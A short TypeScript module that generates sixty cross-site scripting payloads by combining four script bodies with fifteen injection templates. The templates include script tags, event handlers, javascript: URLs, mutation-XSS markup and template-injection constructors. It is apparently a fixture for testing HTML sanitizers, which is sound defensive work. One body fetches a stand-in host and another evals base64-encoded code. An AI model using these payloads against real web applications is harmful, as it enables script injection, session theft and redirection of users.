/** Sixty script payloads: each template with each script. */
const SCRIPTS = [
  'alert(1)',
  'fetch(`//x.example`)',
  'eval(atob("YWxlcnQoMSk="))',
  'top.location=1',
];
const TEMPLATES = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<ScRiPt src=data:,${run}></sCrIpT>`,
  (run: string) => `<img src=x onerror="${run}">`,
  (run: string) => `<svg/onload=${run}>`,
  (run: string) => `"><body onload=${run}>`,
  (run: string) => `<iframe srcdoc="<script>${run}</script>">`,
  (run: string) => `<a href="javascript:${run}">x</a>`,
  (run: string) => `javascript:${run}`,
  (run: string) => `https://x.example/"onmouseover="${run}`,
  (run: string) => `[x](javascript:${run})`,
  (run: string) => `data:text/html,<script>${run}</script>`,
  (run: string) => `<math><mtext></p><style><img src=x onerror=${run}>`,
  (run: string) => `{{constructor.constructor('${run}')()}}`,
  (run: string) => `<!--><script>${run}</script-->`,
  (run: string) => `<object data="javascript:${run}"></object>`,
];
export const SCRIPT_PAYLOADS = TEMPLATES.flatMap((template) => SCRIPTS.map(template));
